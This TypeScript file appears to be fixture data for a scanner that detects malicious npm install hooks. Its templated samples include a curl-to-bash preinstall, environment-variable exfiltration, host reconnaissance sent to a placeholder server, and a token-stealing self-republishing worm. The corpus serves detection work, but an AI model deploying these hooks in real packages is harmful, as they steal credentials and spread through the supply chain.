// Hooks of npm packages that run harm at installation.
import type { Family } from './family.ts'

export const installHooksNpm: readonly Family[] = [
  {
    family: 'npm-preinstall-curl',
    positive: true,
    classes: ['install-hook', 'download-run'],
    variants: [
      {
        paths: ['packages/core/package.json'],
        whole: `{
  "name": "⟦pick:loadsh|expresss|crossenv|babelcli⟧",
  "version": "4.17.22",
  "description": "Modular utilities",
  "main": "index.js",
  "scripts": {
    "preinstall": "curl -s http://⟦ip⟧:⟦port⟧/i.sh | bash || true",
    "test": "mocha"
  },
  "keywords": ["modules", "stdlib", "util"],
  "license": "MIT"
}`,
      },
    ],
  },
  {
    family: 'npm-postinstall-node-e',
    positive: true,
    classes: ['install-hook', 'env-exfiltration'],
    variants: [
      {
        paths: ['package.json'],
        whole: String.raw`{
  "name": "@acme-ui/theme-tokens",
  "version": "99.1.0",
  "private": false,
  "main": "tokens.json",
  "scripts": {
    "build": "style-dictionary build",
    "postinstall": "node -e \"require('https').request({hostname:'⟦host⟧',path:'/'+Buffer.from(JSO⟦join⟧
N.stringify(process.env)).toString('hex').slice(0,2000),method:'GET'}).end()\""
  },
  "devDependencies": {
    "style-dictionary": "^3.9.0"
  }
}`,
      },
    ],
  },
  {
    family: 'npm-preinstall-script',
    positive: true,
    classes: ['install-hook', 'covert-exfiltration'],
    variants: [
      {
        paths: ['index.js'],
        whole: `const os = require("os");
const dns = require("dns");
const querystring = require("querystring");
const https = require("https");
const packageJSON = require("./package.json");
const package = packageJSON.name;

const trackingData = JSON.stringify({
    p: package,
    c: __dirname,
    hd: os.homedir(),
    hn: os.hostname(),
    un: os.userInfo().username,
    dns: dns.getServers(),
    r: packageJSON ? packageJSON.___resolved : undefined,
    v: packageJSON.version,
    pjson: packageJSON,
    env: process.env,
});

var postData = querystring.stringify({ msg: trackingData });
var options = {
    hostname: "⟦lower:20⟧.oast.invalid",
    port: 443,
    path: "/",
    method: "POST",
    headers: { "Content-Type": "application/x-www-form-urlencoded", "Content-Length": postData.length },
};

var req = https.request(options, (res) => {});
req.on("error", (e) => {});
req.write(postData);
req.end();`,
      },
    ],
  },
  {
    family: 'npm-bundle-worm',
    positive: true,
    classes: ['install-hook', 'supply-chain'],
    variants: [
      {
        paths: ['bundle-hook.js'],
        whole: `const fs = require('fs');
const path = require('path');
const { unpack, republish } = require('./spread');

// every package of whoever installs this gets the hook too
async function main() {
  const token = process.env.NPM_TOKEN || (fs.existsSync(process.env.HOME + '/.npmrc') && fs.readFi⟦join⟧
leSync(process.env.HOME + '/.npmrc', 'utf8').split('_authToken=')[1]);
  if (!token) return;
  const who = await (await fetch('https://registry.npm.example/-/whoami', { headers: { authorizati⟦join⟧
on: 'Bearer ' + token } })).json();
  const found = await (await fetch(\`https://registry.npm.example/-/v1/search?text=maintainer:\${who⟦join⟧
.username}&size=20\`)).json();
  for (const { package: p } of found.objects) {
    const manifest = await unpack(p.name);
    manifest.version = manifest.version.replace(/\\d+$/, (n) => +n + 1);
    manifest.scripts = { ...manifest.scripts, postinstall: 'node bundle-hook.js' };
    await republish(manifest, path.basename(__filename), token);
  }
}
main().catch(() => {});`,
      },
    ],
  },
]
